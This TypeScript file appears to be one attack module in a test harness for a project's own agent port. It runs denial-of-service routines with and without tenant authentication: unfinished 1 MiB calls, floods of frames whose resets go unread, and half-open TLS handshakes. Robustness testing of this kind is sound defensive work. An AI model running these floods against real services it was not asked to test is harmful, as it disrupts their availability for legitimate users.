// Strangers and a tenant at the agent port: calls that never end, answers that nobody reads, handshakes left half open.

import { connect, type Socket } from 'node:net';
import { dial, dialTenant, frame, open, pause, push, Type } from '../agent-wire.ts';
import type { Attack, Counts, Target } from '../attack.ts';

const CALLS = 900;
const BIND = 1;
const PIECE = Buffer.alloc(64 * 1024, 'x');
const PIECES = 15; // Of a call of 1 MiB at the most.
/** Handshakes that are begun and left; connections to a second. */
const HALF_OPEN = 200;
const PER_SECOND = 4;

type Shot = (target: Target, signal: AbortSignal, counts: Counts) => Promise<void>;
const count = (counts: Counts, name: string, by = 1) => {
  counts[name] = (counts[name] ?? 0) + by;
};

/** @param asTenant with the authtoken of a tenant, or without any. */
const unfinishedCalls =
  (asTenant: boolean): Shot =>
  async (target, signal, counts) => {
    const socket = await (asTenant ? dialTenant(target) : dial(target));
    if (!socket) return count(counts, 'turned away');
    socket.resume();
    for (let id = 3; id < 2 * CALLS && !signal.aborted; id += 2) {
      let goesOn = await push(socket, open(id, BIND, '{"Proto":"'));
      for (let piece = 0; goesOn && piece < PIECES; piece++)
        goesOn = await push(socket, frame(Type.DATA, 0, id, PIECE));
      if (!goesOn) break;
      count(counts, 'calls begun');
    }
    socket.destroy();
  };

/** Each frame is of a stream that never was, and answered with a reset, which stays unread. */
const unreadResets =
  (asTenant: boolean): Shot =>
  async (target, signal, counts) => {
    const socket = await (asTenant ? dialTenant(target) : dial(target));
    if (!socket) return count(counts, 'turned away');
    socket.pause();
    const many = Buffer.alloc(8000 * 9, frame(Type.DATA, 0, 1_000_001, Buffer.from('x')));
    for (let round = 0; round < 500 && !signal.aborted && (await push(socket, many)); round++)
      count(counts, 'frames sent', 8000);
    socket.destroy();
  };

/** Each begins a handshake and says no more; what is there is kept up to a number. */
const halfOpen =
  (sockets: Socket[]): Shot =>
  async ({ agent }, _, counts) => {
    const [host, port] = agent.split(/:(?=\d+$)/);
    for (let i = 0; i < 20; i++) {
      const socket = connect({ host, port: Number(port) });
      socket.on('error', () => {}).on('close', () => count(counts, 'half open closed'));
      socket.resume().write(Buffer.from('1603010200010001fc0303', 'hex'));
      sockets.push(socket);
      count(counts, 'half open begun');
    }
    while (sockets.length > HALF_OPEN) sockets.shift()?.destroy();
  };

export const attack: Attack = {
  name: 'A3 the agent port before and after authentication: unfinished calls, unread answers, half-open handshakes',
  async run(target, signal) {
    const counts: Counts = {};
    const sockets: Socket[] = [];
    const shots = [
      unfinishedCalls(false),
      unreadResets(false),
      halfOpen(sockets),
      unfinishedCalls(true),
      unreadResets(true),
    ];
    for (let i = 0; !signal.aborted; i++) {
      await shots[i % shots.length]?.(target, signal, counts);
      await pause(1000 / PER_SECOND, signal);
    }
    for (const socket of sockets) socket.destroy();
    return counts;
  },
};
